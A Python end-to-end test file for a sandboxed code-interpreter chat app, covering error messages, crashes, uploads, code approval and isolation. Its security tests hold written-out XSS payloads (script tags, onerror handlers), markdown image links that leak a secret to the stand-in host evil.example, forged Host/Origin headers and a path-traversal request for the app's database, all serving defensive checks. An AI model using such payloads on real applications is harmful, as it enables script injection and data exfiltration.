"""What a person sees when something goes wrong: one clear sentence, a next step, nothing lost."""

from __future__ import annotations

import re
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from lci.testing import server as scripted
from lci.testing.server import Drop, Raw, Reply, ScriptedServer, chunk
from tests.e2e.conftest import _page, ended
from tests.e2e.driving import KEY, App, ask, at_rest, choose, open_page, open_tab, upload, wait_done

CHAT = ".st-key-chat_pane"

CUT = [chunk({"content": "The beginning"}), Drop(reset=True)]

FAILURES = {
    "key": (
        scripted.error(401, "Incorrect API key provided: " + KEY, "invalid_api_key"),
        "does not accept the API key",
    ),
    "url": (Reply(status=404, body={"detail": "Not Found"}), "most servers need it to end in /v1"),
    "model": (scripted.error(404, "The model `scripted` does not exist", "model_not_found"), "has no model called"),
    "quota": (scripted.error(429, "You exceeded your quota", "insufficient_quota"), "has no credit left"),
    "html": (Reply(body=b"<html>Log in</html>", headers={"content-type": "text/html"}), "is not a model's answer"),
    "cut": (Reply(CUT), "broke off"),
    "filter": (scripted.error(400, "filtered", "content_filter"), "content filter"),
    "garbage": (Reply([Raw(b"data: {not json}\n\n")]), "cannot be read"),
}


@pytest.mark.parametrize("name", FAILURES)
def test_a_provider_error_explains_itself_and_continue_goes_on(page: Page, model: ScriptedServer, name: str) -> None:
    """B12, B17, B31: one sentence with the fix; the key is in none; Continue works."""
    reply, sentence = FAILURES[name]
    model.add(reply)
    ask(page, "Hello")
    expect(page.locator(CHAT).get_by_text(sentence)).to_be_visible(timeout=30_000)
    assert KEY not in page.content()
    assert "Traceback" not in page.content()
    model.add(scripted.text("Back again."))
    page.locator("[class*=st-key-continue_] button").first.click()
    expect(page.locator(CHAT).get_by_text("Back again.")).to_be_visible(timeout=30_000)


def test_a_model_that_fails_leaves_ways_on_and_the_analyst_answers(
    page: Page, model: ScriptedServer, tmp_path: Path
) -> None:
    """B12: to Settings, and to an answer without that model."""
    sales = tmp_path / "sales.csv"
    sales.write_text("region,sales\nnorth,10\nsouth,20\n", encoding="utf-8")
    upload(page, sales)
    model.add(scripted.error(401, "Incorrect API key provided", "invalid_api_key"))
    ask(page, "total sales by region")
    wait_done(page)
    ways = page.locator("[class*=st-key-other_ways_]")
    expect(ways.get_by_role("link")).to_have_attribute("href", re.compile("settings"))
    at_rest(page)
    ways.get_by_role("button", name="Ask the built-in analyst instead").click()
    expect(page.locator(CHAT)).to_contain_text("Highest: south (20)")
    wait_done(page)
    expect(ways).to_have_count(0)


def test_a_rate_limit_is_waited_out_in_sight(page: Page, model: ScriptedServer) -> None:
    """B12, B17: visible back-off, then the answer, and nothing is asked twice without need."""
    model.add(scripted.error(429, "slow down", "rate_limit_exceeded", retry_after="2"), scripted.text("Here it is."))
    ask(page, "Hello")
    expect(page.locator(CHAT).get_by_text("limits how often you may ask. Trying again in")).to_be_visible()
    expect(page.locator(CHAT).get_by_text("Here it is.")).to_be_visible(timeout=30_000)
    assert len(model.chats) == 2


@pytest.mark.isolation
def test_a_kernel_that_dies_is_noticed_and_the_model_is_told(page: Page, model: ScriptedServer) -> None:
    """B4: partial output kept, plain cause, the kernel restarts, the model knows what is gone."""
    model.add(
        scripted.code("x = 1\nprint('before the end', flush=True)\nimport time, os\ntime.sleep(0.5)\nos._exit(1)"),
        scripted.code("print('x' in globals())", call_id="c2"),
        scripted.text("It restarted."),
    )
    ask(page, "Die")
    expect(page.locator(CHAT).get_by_text("It restarted.")).to_be_visible(timeout=30_000)
    told = model.chats[1]["messages"][-1]["content"]
    assert "before the end" in told
    assert "the code ended the process" in told
    assert "variable and import is gone" in told
    assert "False" in model.chats[2]["messages"][-1]["content"]
    wait_done(page)
    fold = page.locator(CHAT).get_by_text("Python ended")
    expect(fold.or_(page.locator(CHAT).get_by_text("Fixed after 1 attempt")).first).to_be_visible()


@pytest.mark.isolation
def test_huge_output_keeps_the_page_quick_and_the_whole_text_in_reach(page: Page, model: ScriptedServer) -> None:
    """B13: head and tail to the model with the exact gap, the full text to download."""
    model.add(scripted.code("print('start'); print('x' * 100_000_000); print('finish')"), scripted.text("Printed."))
    ask(page, "Print a lot")
    expect(page.locator(CHAT).get_by_text("Printed.")).to_be_visible(timeout=60_000)
    told = model.chats[1]["messages"][-1]["content"]
    assert told.startswith("start")
    assert told.rstrip().endswith("finish")
    assert len(told) < 10_000
    wait_done(page)
    page.locator(CHAT).get_by_text("Ran Python").click()
    link = page.locator(CHAT).get_by_role("link", name="Full output")
    expect(link).to_be_visible(timeout=30_000)
    address = link.get_attribute("href")
    assert address is not None
    full = page.request.get(page.url.split("/?")[0] + address)
    assert len(full.body()) == 100_000_000 + len("start\n\nfinish\n")
    model.add(scripted.text("Quick."))
    ask(page, "Still there?")
    expect(page.locator(CHAT).get_by_text("Quick.")).to_be_visible(timeout=30_000)


@pytest.mark.isolation
def test_a_progress_bar_is_one_line_and_input_never_hangs(page: Page, model: ScriptedServer) -> None:
    """B14, B25."""
    bar = "import sys\nfor n in range(101):\n    print(f'\\r{n}%', end='', file=sys.stderr, flush=True)"
    model.add(scripted.code(bar), scripted.code("input('name? ')", call_id="c2"), scripted.text("Done."))
    ask(page, "Progress")
    expect(page.locator(CHAT).get_by_text("Done.")).to_be_visible(timeout=30_000)
    assert model.chats[1]["messages"][-1]["content"].partition("\n\n[In memory now")[0] == "100%"
    assert "does not support input" in model.chats[2]["messages"][-1]["content"]


@pytest.mark.isolation
def test_malformed_calls_get_a_precise_answer_and_an_endless_loop_pauses(page: Page, model: ScriptedServer) -> None:
    """B7, B16: nothing crashes; the same error four times pauses the turn with Continue."""
    model.add(
        scripted.raw_call('{"code": "print(1', pieces=2),
        scripted.raw_call("{}", name="make_coffee", call_id="c2"),
        scripted.code("1 + 1", call_id="c3"),
        *(scripted.code(f"{n + 1}/0", call_id=f"z{n}") for n in range(4)),
    )
    ask(page, "Try")
    expect(page.locator(CHAT).get_by_text("Paused after 4 failed attempts in a row.")).to_be_visible(timeout=30_000)
    answers = [body["messages"][-1]["content"] for body in model.chats]
    assert "not valid JSON" in answers[1]
    assert "no tool 'make_coffee'" in answers[2]
    assert answers[3] == "2"
    assert "The same error came before" not in answers[4]
    assert "The same error came before" in answers[5]
    assert len(model.chats) == 7
    model.add(scripted.text("Another way."))
    page.locator("[class*=st-key-continue_] button").first.click()
    expect(page.locator(CHAT).get_by_text("Another way.")).to_be_visible(timeout=30_000)


@pytest.mark.isolation
def test_files_that_code_makes_are_chips_and_missing_ones_are_flagged(page: Page, model: ScriptedServer) -> None:
    """B10: sandbox links work, a file that is claimed but not there is flagged."""
    model.add(
        scripted.code("open('result table.csv', 'w').write('a,b\\n1,2\\n')"),
        scripted.text(
            "See [the table](sandbox:/mnt/data/result%20table.csv) and [the plot](sandbox:/mnt/data/plot.png)."
        ),
    )
    ask(page, "Make a file")
    wait_done(page)
    chip = page.locator("[class*=st-key-chips_] a")
    expect(chip).to_have_count(1)
    expect(chip).to_contain_text("result table.csv")
    for link in (chip, page.locator(CHAT).get_by_role("link", name="the table")):
        with page.expect_download() as download:
            link.first.click()
        assert Path(download.value.path()).read_text("utf-8") == "a,b\n1,2\n"
    expect(page.locator(CHAT).get_by_text("“plot.png” was mentioned but is not there.")).to_be_visible()


@pytest.mark.isolation
def test_hostile_html_and_markdown_reach_neither_the_app_nor_the_network(page: Page, model: ScriptedServer) -> None:
    """B36: no script in the app's origin, no remote content."""
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    attack = (
        "from IPython.display import HTML, SVG, Markdown, display\n"
        'display(HTML(\'<b>seen</b><img src=x onerror="parent.document.title=1">'
        '<script>try{parent.document.body.setAttribute("data-hacked",1)}catch(e){}</script>\'))\n'
        "display(HTML('<table><tr><td>plain<img src=\"http://evil.example/a.png\"></td></tr></table>'))\n"
        'display(SVG(\'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">'
        '<script>parent.document.body.setAttribute("data-hacked",1)</script></svg>\'))\n'
        "display(Markdown('![x](http://evil.example/b.png) <script>document.body.dataset.hacked=1</script>'))"
    )
    model.add(scripted.code(attack), scripted.text("![leak](http://evil.example/c.png?q=secret) done it"))
    ask(page, "Attack")
    expect(page.locator(CHAT).get_by_text("done it")).to_be_visible(timeout=30_000)
    wait_done(page)
    expect(page.locator(CHAT).get_by_text("plain")).to_be_visible()
    expect(page.locator(CHAT).get_by_text("seen")).to_be_visible()
    expect(page.locator(f"{CHAT} iframe")).to_have_count(0)
    at_rest(page)
    page.locator("[class*=st-key-draw_] button:visible").click()
    expect(page.locator(f"{CHAT} iframe")).to_have_count(1)
    at_rest(page)
    assert page.evaluate("document.body.dataset.hacked") is None
    assert not [url for url in requests if "evil.example" in url]


@pytest.mark.isolation
def test_odd_files_say_in_one_sentence_what_is_odd(page: Page, model: ScriptedServer, tmp_path: Path) -> None:
    """B5, B20: still attached, no traceback, the name exactly as given."""
    odd = {
        "empty.csv": (b"", "is empty"),
        "header only.csv": (b"a,b,c\n", "It has a header but no rows."),
        "wrong.xlsx": (b"a;b\n1;2\n3;4\n", "the content is"),
        "ragged.csv": (b"a,b\n1,2\n1,2,3,4\n5,6\n", "another number of cells"),
        "表 'quoted' 😀.csv": ("名前,値\n東京,1\n".encode("cp932"), "1 row × 2 columns"),
        "binary.csv": (bytes(range(256)) * 20, "binary.csv"),
    }
    for name, (content, _) in odd.items():
        (tmp_path / name).write_bytes(content)
    upload(page, tmp_path / "empty.csv")
    for name, (_, sentence) in odd.items():
        if name != "empty.csv":
            page.locator(".st-key-side_panel").get_by_role("button", name="upload").click()
            page.locator(".st-key-upload input[type=file]").set_input_files(str(tmp_path / name))
        expect(page.locator(".st-key-side_panel").get_by_text(sentence).first).to_be_visible(timeout=30_000)
        page.keyboard.press("Escape")
    model.add(scripted.code("import pandas as pd\nprint(pd.read_csv(\"表 'quoted' 😀.csv\", encoding='cp932').shape)"))
    model.add(scripted.text("Read."))
    ask(page, "Read the table")
    expect(page.locator(CHAT).get_by_text("Read.")).to_be_visible(timeout=30_000)
    assert "(1, 2)" in model.chats[1]["messages"][-1]["content"]
    assert "cp932" in str(model.chats[0]["messages"][-1]["content"])


@pytest.mark.isolation
def test_a_removed_file_comes_back_with_undo(page: Page, model: ScriptedServer, tmp_path: Path) -> None:
    (tmp_path / "mine.csv").write_text("a\n1\n", "utf-8")
    upload(page, tmp_path / "mine.csv")
    open_tab(page, "Files")
    panel = page.locator(".st-key-side_panel")
    choose(page, panel.locator(".st-key-files_chosen input"), "mine.csv")
    page.keyboard.press("Escape")
    panel.locator(".st-key-remove_chosen button").click()
    expect(panel.get_by_text("Deleted mine.csv.")).to_be_visible()
    page.reload()
    open_tab(page, "Files")
    expect(panel.get_by_text("Deleted mine.csv.")).to_be_visible()
    panel.locator(".st-key-undo_remove button").click()
    expect(panel.get_by_role("link", name="mine.csv")).to_be_visible()


def test_a_file_of_this_machine_is_attached_once_by_its_path(
    page: Page, app: App, model: ScriptedServer, tmp_path: Path
) -> None:
    """B35, in part: no upload, one copy, and a clear sentence for a path that leads nowhere."""
    path = tmp_path / "local file.csv"
    path.write_text("a,b\n1,2\n", "utf-8")
    box = page.locator(".st-key-local_path input")
    box.fill("/nowhere/at all.csv")
    box.press("Enter")
    panel = page.locator(".st-key-side_panel")
    expect(panel.get_by_text("There is no file “/nowhere/at all.csv”.")).to_be_visible(timeout=30_000)
    box.fill(str(path))
    box.press("Enter")
    expect(panel.get_by_text("1 row × 2 columns")).to_be_visible(timeout=30_000)
    page.reload()
    expect(panel.get_by_text("1 row × 2 columns")).to_be_visible(timeout=30_000)
    work = app.home / "workspaces" / page.url.split("c=")[1] / "work"
    assert [entry.name for entry in work.iterdir()] == ["local file.csv"]


@pytest.fixture(scope="module")
def open_app(model_server: ScriptedServer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[App]:
    """The app on a machine without isolation."""
    home = tmp_path_factory.mktemp("open") / "home"
    made = App(home, {"OPENAI_BASE_URL": model_server.url, "LCI_MODEL": "scripted", "LCI_ISOLATION": "off"})
    yield made
    ended(made)


def test_without_isolation_every_cell_waits_for_run_or_reject(
    browser: Browser, open_app: App, model: ScriptedServer
) -> None:
    """B23: the code can be read and edited before it runs; a rejection reaches the model with its reason."""
    for page in _page(browser, open_app.url):
        expect(page.get_by_text("Not isolated: each cell asks first")).to_be_visible()
        model.add(scripted.code("print('as written')"), scripted.code("print('never')", call_id="c2"))
        model.add(scripted.text("Understood."))
        ask(page, "Run something")
        expect(page.get_by_text("Run this code?")).to_be_visible(timeout=30_000)
        area = page.locator("[class*=st-key-source_] textarea")
        area.fill("print('as edited')")
        area.press("Control+Enter")
        page.locator("[class*=st-key-approve_] button").click()
        assert model.wait_for(lambda server: len(server.chats) == 2)
        assert "as edited" in model.chats[1]["messages"][-1]["content"]
        expect(page.locator("[class*=st-key-source_] textarea")).to_have_value("print('never')", timeout=30_000)
        reason = page.locator("[class*=st-key-reason_] input")
        reason.fill("not today")
        reason.press("Enter")
        page.locator("[class*=st-key-reject_] button").click()
        expect(page.get_by_text("Understood.")).to_be_visible(timeout=30_000)
        assert "not today" in model.chats[2]["messages"][-1]["content"]


def test_a_foreign_host_or_origin_is_refused(page: Page, app: App) -> None:
    """B37: on every route, before anything else."""

    def status(request: str) -> str:
        with socket.create_connection(("127.0.0.1", app.port), 10) as connection:
            connection.sendall(request.encode())
            return connection.recv(64).decode().split(" ")[1]

    own = f"127.0.0.1:{app.port}"
    assert status(f"GET /app/static/file/x/y HTTP/1.1\r\nHost: {own}\r\nConnection: close\r\n\r\n") == "404"
    assert status("GET / HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n") == "403"
    foreign = f"POST /app/static/upload/x HTTP/1.1\r\nHost: {own}\r\nOrigin: http://evil.example\r\n"
    assert status(foreign + "Content-Length: 0\r\nConnection: close\r\n\r\n") == "403"


@pytest.mark.isolation
def test_routes_serve_only_their_own_conversation(
    page: Page, app: App, model: ScriptedServer, browser: Browser
) -> None:
    """B32, B36: a figure's digest opens nothing under another conversation's id; files carry a sandbox header."""
    model.add(scripted.code("import matplotlib.pyplot as plt\nplt.plot([1, 2]); plt.show()"), scripted.text("Drawn."))
    ask(page, "Draw")
    wait_done(page)
    source = page.locator(f"{CHAT} [data-testid=stImage] img").get_attribute("src")
    assert source is not None
    path = source.replace(app.url, "")
    mine = page.request.get(app.url + path)
    assert mine.status == 200
    assert "sandbox" in mine.headers["content-security-policy"]
    own_id = path.split("/")[4]
    context = browser.new_context()
    other = context.new_page()
    open_page(other, app.url)
    other_id = other.url.split("c=")[1]
    assert other.request.get(app.url + path.replace(own_id, other_id)).status == 404
    assert other.request.get(f"{app.url}/app/static/file/{other_id}/..%2f..%2f..%2f..%2flci.sqlite").status in (
        400,
        404,
    )
    context.close()
